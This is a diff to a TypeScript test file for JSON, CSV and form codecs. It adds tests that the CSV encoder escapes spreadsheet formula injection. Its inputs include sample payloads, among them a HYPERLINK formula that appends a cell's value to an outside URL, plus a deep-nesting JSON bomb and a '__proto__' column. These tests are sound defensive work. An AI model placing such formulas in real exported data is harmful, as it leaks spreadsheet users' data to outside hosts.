@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { messageBudget } from './budget.ts';
 import { decodeCsv, encodeCsv } from './csv.ts';
 import { decodeForm, encodeForm } from './form.ts';
 import { decodeJson, encodeJson } from './json.ts';
@@ -17,6 +18,8 @@ const failureOf = (work: () => unknown): unknown => {
     return error;
   }
 };
+
+const tooLarge = (message: string) => expect.objectContaining({ code: 'body_too_large', message });
 
 describe('json', () => {
   test.each<[string, unknown]>([
@@ -49,8 +52,8 @@ describe('json', () => {
   test('S-64: depth and keys are bounded, also far beyond the stack', () => {
     const deep = '['.repeat(200_000) + ']'.repeat(200_000);
     expect(failureOf(() => decodeJson(deep))).toEqual(undecodable('the body is nested deeper than 100 levels'));
-    expect(failureOf(() => decodeJson('{"a":{"b":1},"c":2}', { depth: 5, keys: 2 }))).toEqual(
-      undecodable('the body has more than 2 keys'),
+    expect(failureOf(() => decodeJson('{"a":{"b":1},"c":2}', { ...messageBudget, keys: 2 }))).toEqual(
+      tooLarge('the body has more than 2 keys'),
     );
   });
 
@@ -88,7 +91,7 @@ describe('csv', () => {
     });
     expect(decodeCsv('a\tb\n1\t2', { delimiter: '\t' })).toEqual({ a: '1', b: '2', rows: [{ a: '1', b: '2' }] });
     expect(decodeCsv('', comma)).toEqual({ rows: [] });
-    expect(decodeCsv('a,b\n1', comma)).toMatchObject({ rows: [{ a: '1', b: '' }] });
+    expect(decodeCsv('a,b\n1', comma)).toEqual({ a: '1', rows: [{ a: '1' }] });
   });
 
   test.each([
@@ -104,7 +107,7 @@ describe('csv', () => {
       { name: 'a "b", c', note: 'line\nend' },
       { name: '', note: '\r' },
     ];
-    expect(decodeCsv(encodeCsv(rows, comma), comma)).toEqual({ rows });
+    expect(decodeCsv(encodeCsv(rows, comma, false), comma)).toEqual({ rows });
   });
 
   test('the header is the union of keys by first appearance; values are texts, structures JSON', () => {
@@ -125,6 +128,54 @@ describe('csv', () => {
   test('S-58: a column named like a prototype is a column', () => {
     const { rows } = decodeCsv('__proto__,a\nx,y\nx,y\n', comma) as { rows: object[] };
     expect([Object.getPrototypeOf(rows[0]), Object.keys(rows[0] as object)]).toEqual([null, ['__proto__', 'a']]);
+  });
+});
+
+describe('S-55: formulas in tables', () => {
+  const lines = (value: unknown, escapeFormulas?: boolean) =>
+    encodeCsv(value, { delimiter: ',' }, escapeFormulas).split('\r\n').slice(1, -1);
+
+  test.each([
+    '=1+1',
+    '+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\tx',
+    '\rx',
+    '\nx',
+    '＝1',
+    '-',
+    '--1',
+    '=HYPERLINK("http://x?"&A1,"a")',
+  ])('the text %j is written as text, in cells, in lists and in the header', (text) => {
+    const written = decodeCsv(encodeCsv([{ a: text }, { [text]: 1 }], { delimiter: ',' }), { delimiter: ',' });
+    expect(written).toEqual({
+      rows: [
+        { a: `'${text}`, [`'${text}`]: '' },
+        { a: '', [`'${text}`]: '1' },
+      ],
+    });
+    expect(encodeCsv([text], { delimiter: '\t' }).split('\r\n')[0]).toBe('value');
+  });
+
+  test('numbers, negative decimals in texts and harmless texts stay as they are', () => {
+    expect(lines([{ a: -1 }, { a: -5n }, { a: '-12.50' }, { a: 'a=b' }, { a: "'=1" }, { a: '' }])).toEqual([
+      '-1',
+      '-5',
+      '-12.50',
+      'a=b',
+      "'=1",
+      '',
+    ]);
+  });
+
+  test('the configuration may leave them as they are', () => {
+    expect(lines([{ a: '=1+1' }], false)).toEqual(['=1+1']);
+  });
+
+  test('a table that is out of proportion to its data is refused', () => {
+    const rows = Array.from({ length: 2_000 }, (_, at) => ({ [`k${at}`]: 1 }));
+    expect(failureOf(() => encodeCsv(rows, { delimiter: ',' }))).toMatchObject({ code: 'output_invalid' });
   });
 });
 
